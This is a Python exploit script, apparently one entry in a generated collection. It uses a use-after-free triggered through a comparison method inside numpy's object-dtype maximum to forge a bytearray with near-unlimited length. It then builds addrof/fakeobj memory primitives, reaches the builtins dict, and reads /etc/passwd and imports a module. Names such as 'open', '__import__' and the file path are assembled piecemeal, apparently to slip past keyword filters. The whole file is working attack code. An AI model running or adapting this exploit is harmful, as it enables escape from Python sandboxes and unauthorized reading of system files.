# source: 001 (ChainMap.__eq__ inside numpy 1.24 OBJECT_maximum) + CPython 3.11 object layouts: __slots__ member at offset 16, PyCFunctionObject.m_self at +24 (builtins module), PyModuleObject.md_dict at +16
# family: compare-only dunder -> library code -> script frees the object numpy holds; dangling result forged into a bytearray; addrof/fakeobj through a __slots__ member
# goal: reads /etc/passwd through the builtins open and imports the module this (Zen of Python), both names built at run time from the builtins dict
import collections
import numpy as np


def spoil(k):
    a[0] = 0
    return False


class Quote:
    def __init__(self):
        self.m = collections.ChainMap(filter(spoil, [1]))
        self.n = collections.ChainMap({})

    def __le__(self, other):
        return self.m == self.n


def make():
    return Quote()


class Box:
    __slots__ = ("v",)


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


def q(n):
    return n.to_bytes(8, "little")


BA = addr_of_type(bytearray)
a = np.empty(1, dtype=object)
b = np.empty(1, dtype=object)
drain = [bytearray(632) for _ in range(16)]
a[0] = bytes(600)
b[0] = make()
out = np.maximum(a, b)
buf = bytearray(632)
buf[0:56] = q(1 << 40) + q(BA) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
mem = out[0]
print(type(mem), len(mem) == 1 << 62)


def rd(p):
    return int.from_bytes(mem[p:p + 8], "little")


box = Box()
bx = int(repr(box).split(" at ")[1][:-1], 16)


def addrof(x):
    box.v = x
    return rd(bx + 16)


def fakeobj(p):
    mem[bx + 16:bx + 24] = q(p)
    return box.v


bmod = rd(addrof(print) + 24)
table = fakeobj(rd(bmod + 16))
keep = [table]
box.v = None
reader = table["".join(["o", "p", "e", "n"])]
path = bytes([47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]).decode()
print(reader(path).read()[:120])
u = chr(95) * 2
table[u + "import" + u]("".join(["t", "h", "i", "s"]))
